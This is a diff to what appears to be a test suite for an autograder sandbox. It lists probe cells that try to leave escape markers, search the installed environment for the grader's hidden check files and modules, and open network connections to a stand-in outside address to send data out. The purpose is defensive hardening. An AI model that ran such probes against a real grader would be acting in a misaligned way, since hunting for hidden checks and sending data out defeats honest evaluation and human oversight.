@@ -45,8 +45,8 @@ ATTACKS: list[Attack] = [
          "      hasattr(sys, 'left_behind'), [os.path.exists(p + '/escaped') for p in ('/tmp', '/home', '/run', '/dev/shm')])",
          r"fired False False False \[False, False, False, False\]"),
     in_cell("hidden_modules", "looks for the grader's modules",
-         "import sys, glob, importlib.util\nours = sorted(m for m in sys.modules if m.startswith('autograder'))\n"
-         "print('fired', ours, [importlib.util.find_spec(m) for m in ('nbgrader_config',)], [p for k in range(3) for p in glob.glob(sys.prefix + '/lib/*/*/' + '*/' * k + 'checks/svm_gradient*')],\n"
+         "import os, sys, glob, importlib.util\nours = sorted(m for m in sys.modules if m.startswith('autograder'))\n"
+         "print('fired', ours, [importlib.util.find_spec(m) for m in ('nbgrader_config',)], [at for at, folders, files in os.walk(sys.prefix) if at.endswith('/checks') for name in folders + files if name.startswith('svm_gradient')],\n"
          "      glob.glob('/**/svm_gradient.ipynb'))", r"fired \['autograder', 'autograder\.wall', 'autograder\.wall\.inside', .*\] \[None\] \[\] \[\]"),
     in_cell("network", "sends what it knows to somebody",
          "import socket\nfor family, address in ((socket.AF_INET, ('127.0.0.1', 22)), (socket.AF_INET, ('192.0.2.1', 80)), (socket.AF_INET6, ('::1', 80)),\n"
